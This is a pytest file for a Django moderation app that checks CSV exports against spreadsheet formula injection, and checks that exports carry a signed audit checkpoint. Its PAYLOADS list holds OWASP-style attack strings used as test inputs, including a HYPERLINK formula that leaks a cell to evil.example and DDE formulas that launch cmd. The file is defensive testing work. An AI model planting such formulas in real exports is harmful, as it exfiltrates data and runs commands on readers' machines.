"""CSV exports are safe to open in a spreadsheet (OWASP's CSV injection): no cell starts a
formula, the rule is in the codebook, and JSON Lines keep the exact text. And every export
carries the latest signed checkpoint of the audit history (issue 10)."""

import csv
import io
import json
import zipfile

import pytest
from django.core.management import call_command

from moderation import services
from moderation.models import AuditCheckpoint, Status
from tests import factories
from tests.moderation.export_helpers import (
    BUNDLE,
    CODEBOOK,
    COMMENTS_CSV,
    COMMENTS_JSONL,
    LABELS_CSV,
    content,
    jsonl,
)

# OWASP's examples, and the other characters a spreadsheet reads as the start of a formula.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # an apostrophe first: kept, so the rule can be undone exactly
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(moderator, pseudonym_key):
    """A site, article and commenters named with payloads, comments made of them, each
    tagged (so label rows carry them too)."""
    site = factories.make_site("=Site", policy_text="No formulas.")
    article = factories.make_article(site, title="+Budget=1+1")
    attack = factories.category(site, "personal-attack")
    comments = []
    for n, payload in enumerate(PAYLOADS):
        comment = factories.make_comment(article, payload, author=f"@reader{n}")
        services.tag(moderator, comment, attack, note="-note")
        comments.append(comment)
    services.decide(moderator, comments[0], Status.REMOVED, expected_version=0, reasons=[attack])
    return comments


def cells(response):
    return [cell for row in csv.reader(io.StringIO(content(response).decode())) for cell in row]


@pytest.mark.parametrize("url", [COMMENTS_CSV, LABELS_CSV])
def test_no_exported_csv_cell_starts_a_formula(researcher_client, hostile, url):
    exported = cells(researcher_client.get(url))
    assert exported
    assert [cell for cell in exported if cell.startswith(FORMULA_STARTS)] == []


def test_the_csv_text_is_the_exact_text_behind_one_apostrophe(researcher_client, hostile):
    rows = list(csv.DictReader(io.StringIO(content(researcher_client.get(COMMENTS_CSV)).decode())))
    by_id = {int(row["comment_id"]): row for row in rows}
    for comment in hostile:
        text = by_id[comment.pk]["text"]
        assert text == "'" + comment.body_text, comment.body_text
    assert {row["article_title"] for row in rows} == {"'+Budget=1+1"}
    assert {row["site"] for row in rows} == {"'=Site"}


def test_json_lines_keep_the_exact_text(researcher_client, hostile):
    rows = {row["comment_id"]: row for row in jsonl(researcher_client.get(COMMENTS_JSONL))}
    assert [rows[c.pk]["text"] for c in hostile] == [c.body_text for c in hostile]


def test_the_codebook_states_the_rule(researcher_client, hostile):
    codebook = json.loads(researcher_client.get(CODEBOOK).content)
    rule = codebook["definitions"]["csv_text"]
    assert "apostrophe" in rule
    assert "=, +, -, @, a tab or a carriage return" in rule


def test_every_export_carries_the_latest_signed_checkpoint(researcher_client, hostile, settings):
    settings.AUDIT_CHECKPOINT_EVERY = 0
    call_command("audit_checkpoint", stdout=io.StringIO())
    signed = AuditCheckpoint.objects.get()
    with zipfile.ZipFile(io.BytesIO(content(researcher_client.get(BUNDLE)))) as bundle:
        names = bundle.namelist()
        name = next((n for n in names if "codebook" in n), None)
        assert name, names
        codebook = json.loads(bundle.read(name))
    kept = codebook["audit"]["checkpoint"]
    assert (kept["event_id"], kept["head_hash"], kept["signature"]) == (
        signed.event_id,
        signed.head_hash,
        signed.signature,
    )
